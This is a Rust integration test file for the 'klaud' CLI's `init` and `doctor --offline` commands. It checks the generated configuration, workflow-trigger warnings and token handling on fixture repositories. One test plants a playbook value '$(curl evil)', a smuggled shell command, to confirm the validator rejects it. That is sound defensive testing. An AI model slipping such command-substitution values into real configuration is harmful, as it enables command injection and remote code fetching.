//! `klaud init` and `klaud doctor --offline` on real checkouts: the
//! InferenceX fixture (root layout, with the older and the newer real
//! workflow files) and the demo repository. The file init writes loads
//! with Klaud's own loader, and doctor finds it where the README puts it.

use std::path::Path;
use std::process::{Command, Output};

use crate::support;
use klaud::config::Config;

const BOT: &str = "klaud-test-bot";

fn klaud(dir: &Path, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_klaud"))
        .args(args)
        .current_dir(dir)
        // Nothing from the developer's environment decides the outcome.
        .env_remove("KLAUD_CONFIG")
        .env_remove("KLAUD_GITHUB_TOKEN")
        .env_remove("GITHUB_TOKEN")
        .env_remove("GITHUB_ACTIONS")
        .output()
        .unwrap()
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

/// A copy of the InferenceX checkout with the real workflow files of
/// `workflows` (a folder under the shared fixtures) in `.github/workflows`.
fn inferencex_with(workflows: &str) -> Option<tempfile::TempDir> {
    let full = support::inferencex_full()?;
    let dir = tempfile::tempdir().unwrap();
    support::copy_tree(&full, dir.path());
    let source = full.join("../workflows").join(workflows);
    let target = dir.path().join(".github/workflows");
    std::fs::create_dir_all(&target).unwrap();
    for entry in std::fs::read_dir(source).unwrap() {
        let entry = entry.unwrap();
        std::fs::copy(entry.path(), target.join(entry.file_name())).unwrap();
    }
    Some(dir)
}

fn check<'a>(checks: &'a serde_json::Value, name: &str) -> &'a serde_json::Value {
    checks
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["name"] == name)
        .unwrap_or_else(|| panic!("no check {name} in {checks}"))
}

#[test]
fn init_writes_an_inferencex_config_the_loader_accepts_with_each_choice_explained() {
    let Some(dir) = inferencex_with("843c6254") else {
        return;
    };
    let out = klaud(
        dir.path(),
        &[
            "init",
            "--offline",
            "--repo",
            "SemiAnalysisAI/InferenceX",
            "--bot-login",
            BOT,
        ],
    );
    assert!(out.status.success(), "{}", text(&out.stderr));
    let path = dir.path().join("configs/klaud.toml");
    let written = std::fs::read_to_string(&path).unwrap();
    let config = Config::load(&path).unwrap();
    assert_eq!(
        config.github.repository.as_deref(),
        Some("SemiAnalysisAI/InferenceX")
    );
    assert_eq!(config.github.bot_login, BOT);
    assert_eq!(
        config.lifecycle.baseline_api,
        "https://inferencex.semianalysis.com"
    );
    assert_eq!(
        config.bump.disagreeing_recipes,
        klaud_planner::bump::DisagreePolicy::Align
    );
    // The example workflow passes every 30 minutes: the lease outlasts it.
    assert!(config.daemon.lease >= std::time::Duration::from_secs(2 * 3600));
    // The literal launcher copies become recipe roots, each naming its line.
    assert!(
        config.recipe_roots.len() >= 15,
        "{}",
        config.recipe_roots.len()
    );
    assert!(
        config
            .recipe_roots
            .iter()
            .any(|r| r.prefix == "recipes/trtllm/kimi-k25-nvfp4/b200-fp4"
                && r.folder
                    .ends_with("trtllm/kimi-k2.5/disagg/trtllm_dynamo/b200-fp4")),
        "{written}"
    );
    for explained in [
        "# Layout: the repository root.",
        "perf-changelog.yaml before the final sweep",
        "run-sweep.yml starts on Klaud's PR labelled `full-sweep-fail-fast`",
        "# Source: --bot-login.",
        "# runners/launch_",
        "$TRTLLM_RECIPES_DIR",
    ] {
        assert!(
            written.contains(explained),
            "{explained:?} missing in\n{written}"
        );
    }
    // A second run keeps the file unless told.
    let again = klaud(dir.path(), &["init", "--offline", "--bot-login", BOT]);
    assert_eq!(again.status.code(), Some(2), "{}", text(&again.stderr));
    assert!(text(&again.stderr).contains("--force"));

    // Doctor finds configs/klaud.toml by itself and passes offline.
    let doctor = klaud(dir.path(), &["doctor", "--offline", "--json"]);
    let checks: serde_json::Value = serde_json::from_slice(&doctor.stdout).unwrap();
    assert!(doctor.status.success(), "{checks:#}");
    assert!(
        check(&checks, "config")["detail"]
            .as_str()
            .unwrap()
            .starts_with("./configs/klaud.toml: SemiAnalysisAI/InferenceX"),
        "{checks:#}"
    );
    assert_eq!(check(&checks, "workflows")["status"], "ok", "{checks:#}");
    // InferenceX's playbook is written where the configuration reads it,
    // byte for byte the example's, and doctor reads it back.
    assert_eq!(
        std::fs::read_to_string(dir.path().join(".github/klaud-playbook.yaml")).unwrap(),
        std::fs::read_to_string(
            Path::new(support::REPO_ROOT).join("configs/inferencex-playbook.yaml")
        )
        .unwrap()
    );
    assert_eq!(config.lifecycle.playbook, ".github/klaud-playbook.yaml");
    assert_eq!(check(&checks, "playbook")["status"], "ok", "{checks:#}");
    assert!(
        check(&checks, "playbook")["detail"]
            .as_str()
            .unwrap()
            .starts_with(".github/klaud-playbook.yaml: 13 entries"),
        "{checks:#}"
    );
    assert_eq!(check(&checks, "token")["status"], "warn");
    assert!(
        check(&checks, "token")["detail"]
            .as_str()
            .unwrap()
            .contains("--offline")
    );
}

#[test]
fn a_root_layout_checkout_whose_sweep_triggers_only_on_the_e2e_changelog_is_flagged() {
    let Some(dir) = inferencex_with("newer") else {
        return;
    };
    let out = klaud(
        dir.path(),
        &[
            "init",
            "--offline",
            "--output",
            "klaud.toml",
            "--bot-login",
            BOT,
        ],
    );
    assert!(out.status.success(), "{}", text(&out.stderr));
    let stderr = text(&out.stderr);
    assert!(
        stderr.contains("will not start on Klaud's pull requests"),
        "{stderr}"
    );
    let written = std::fs::read_to_string(dir.path().join("klaud.toml")).unwrap();
    assert!(written.contains("# WARNING: .github/workflows/run-sweep.yml will NOT start"));

    // Doctor finds ./klaud.toml and fails the workflows check, naming the filter.
    let doctor = klaud(dir.path(), &["doctor", "--offline", "--json"]);
    assert_eq!(doctor.status.code(), Some(2), "{}", text(&doctor.stderr));
    let checks: serde_json::Value = serde_json::from_slice(&doctor.stdout).unwrap();
    let workflows = check(&checks, "workflows");
    assert_eq!(workflows["status"], "fail", "{checks:#}");
    let detail = workflows["detail"].as_str().unwrap();
    assert!(
        detail.contains("run-sweep.yml will not start on Klaud's pull requests")
            && detail.contains("paths (inferencex-e2e/perf-changelog.yaml)")
            && detail.contains("perf-changelog.yaml, configs/"),
        "{detail}"
    );
    assert!(
        check(&checks, "config")["detail"]
            .as_str()
            .unwrap()
            .starts_with("./klaud.toml"),
        "{checks:#}"
    );
}

#[test]
fn init_on_the_demo_is_not_inferencex_and_its_placeholder_login_fails_doctor() {
    let dir = tempfile::tempdir().unwrap();
    support::copy_tree(
        &Path::new(support::REPO_ROOT).join("configs/demo"),
        dir.path(),
    );
    let out = klaud(
        dir.path(),
        &["init", "--offline", "--repo", "sandbox/benchmarks"],
    );
    assert!(out.status.success(), "{}", text(&out.stderr));
    let path = dir.path().join("configs/klaud.toml");
    let config = Config::load(&path).unwrap();
    assert_eq!(config.lifecycle.baseline_api, "");
    assert_eq!(
        config.bump.disagreeing_recipes,
        klaud_planner::bump::DisagreePolicy::Leave
    );
    let written = std::fs::read_to_string(&path).unwrap();
    assert!(
        written.contains("# Smoke: .github/workflows/e2e-tests.yml (found)")
            && written.contains("run-sweep.yml starts on Klaud's PR"),
        "{written}"
    );
    let doctor = klaud(dir.path(), &["doctor", "--offline", "--json"]);
    assert_eq!(doctor.status.code(), Some(2));
    let checks: serde_json::Value = serde_json::from_slice(&doctor.stdout).unwrap();
    let config_check = check(&checks, "config");
    assert_eq!(config_check["status"], "fail");
    assert!(
        config_check["detail"]
            .as_str()
            .unwrap()
            .contains("placeholder"),
        "{checks:#}"
    );
    assert_eq!(check(&checks, "checkout")["status"], "ok", "{checks:#}");
}

#[test]
fn doctor_names_each_error_of_a_broken_playbook() {
    let dir = tempfile::tempdir().unwrap();
    support::copy_tree(
        &Path::new(support::REPO_ROOT).join("configs/demo"),
        dir.path(),
    );
    // The demo repository carries a playbook of its own: taken out, so
    // the checkout is one without.
    std::fs::remove_file(dir.path().join(".github/klaud-playbook.yaml")).unwrap();
    let out = klaud(
        dir.path(),
        &[
            "init",
            "--offline",
            "--repo",
            "sandbox/benchmarks",
            "--bot-login",
            BOT,
        ],
    );
    assert!(out.status.success(), "{}", text(&out.stderr));
    // Not InferenceX: no playbook is written, and none is fine.
    assert!(!dir.path().join(".github/klaud-playbook.yaml").exists());
    let doctor = klaud(dir.path(), &["doctor", "--offline", "--json"]);
    let checks: serde_json::Value = serde_json::from_slice(&doctor.stdout).unwrap();
    assert_eq!(check(&checks, "playbook")["status"], "ok", "{checks:#}");
    assert!(
        check(&checks, "playbook")["detail"]
            .as_str()
            .unwrap()
            .starts_with("no .github/klaud-playbook.yaml"),
        "{checks:#}"
    );

    std::fs::write(
        dir.path().join(".github/klaud-playbook.yaml"),
        "version: 1\nentries:\n  - id: oom\n    class: engine\n    signature: {any: ['(CUDA']}\n    diagnosis: {en: x}\n    fix: {set_env: {name: X, value: '$(curl evil)'}}\n",
    )
    .unwrap();
    let doctor = klaud(dir.path(), &["doctor", "--offline", "--json"]);
    assert_eq!(doctor.status.code(), Some(2));
    let checks: serde_json::Value = serde_json::from_slice(&doctor.stdout).unwrap();
    let playbook = check(&checks, "playbook");
    assert_eq!(playbook["status"], "fail", "{checks:#}");
    let detail = playbook["detail"].as_str().unwrap();
    for want in [
        "3 error(s)",
        ".github/klaud-playbook.yaml:5: entry oom: signature.any[0]: not a valid pattern",
        ".github/klaud-playbook.yaml:6: entry oom: diagnosis.zh: missing",
        ".github/klaud-playbook.yaml:7: entry oom: fix.set_env.value: \"$(curl evil)\" is not a plain value",
    ] {
        assert!(detail.contains(want), "{want:?} missing in {detail}");
    }
}

#[test]
fn init_asks_github_whose_token_it_is_for_the_bot_login() {
    const TOKEN: &str = "ghp_initTESTtokenSECRET0123456789abcdef";
    let (url, _state) = support::GithubOnly::new("owner/bench")
        .user("the-actual-bot", None, None)
        .token("the-actual-bot", TOKEN, None)
        .start_detached();
    let dir = tempfile::tempdir().unwrap();
    support::copy_tree(
        &Path::new(support::REPO_ROOT).join("configs/demo"),
        dir.path(),
    );
    let out = Command::new(env!("CARGO_BIN_EXE_klaud"))
        .args([
            "init",
            "--repo",
            "owner/bench",
            "--github-api",
            &url,
            "--output",
            "-",
        ])
        .current_dir(dir.path())
        .env_remove("GITHUB_TOKEN")
        .env("KLAUD_GITHUB_TOKEN", TOKEN)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", text(&out.stderr));
    let stdout = text(&out.stdout);
    let config = Config::parse("stdout", &stdout).unwrap();
    assert_eq!(config.github.bot_login, "the-actual-bot");
    assert!(
        stdout.contains("# Source: GET /user with $KLAUD_GITHUB_TOKEN."),
        "{stdout}"
    );
    assert!(!stdout.contains(TOKEN) && !text(&out.stderr).contains(TOKEN));
}

/// The example configuration is InferenceX's: the values `klaud init`
/// writes on the InferenceX checkout (recipe alignment, the results API,
/// the display names of its model prefixes) are the example's.
#[test]
fn the_example_configuration_holds_what_init_writes_for_inferencex() {
    let Some(full) = support::inferencex_full() else {
        return;
    };
    let out = klaud(
        &full,
        &[
            "init",
            "--checkout",
            full.to_str().unwrap(),
            "--offline",
            "--repo",
            "SemiAnalysisAI/InferenceX",
            "--bot-login",
            BOT,
            "--output",
            "-",
        ],
    );
    assert!(out.status.success(), "{}", text(&out.stderr));
    let written = Config::parse("klaud init", &text(&out.stdout)).unwrap();
    let example =
        Config::load(&Path::new(support::REPO_ROOT).join("configs/inferencex.toml")).unwrap();
    assert_eq!(
        example.bump.disagreeing_recipes,
        written.bump.disagreeing_recipes
    );
    assert_eq!(
        example.bump.disagreeing_recipes,
        klaud_planner::bump::DisagreePolicy::Align
    );
    assert_eq!(
        example.lifecycle.baseline_api,
        written.lifecycle.baseline_api
    );
    assert_eq!(
        example.lifecycle.baseline_api,
        "https://inferencex.semianalysis.com"
    );
    assert_eq!(example.lifecycle.model_names, written.lifecycle.model_names);
    assert_eq!(
        written
            .lifecycle
            .model_names
            .get("qwen3.5")
            .map(String::as_str),
        Some("Qwen-3.5-397B-A17B")
    );
    // Every key is a prefix the checkout's masters use.
    let repository = klaud_planner::repo::Repository::open(&full).unwrap();
    for prefix in written.lifecycle.model_names.keys() {
        assert!(
            repository
                .families()
                .iter()
                .any(|f| &f.entry.model_prefix == prefix),
            "{prefix}"
        );
    }
}
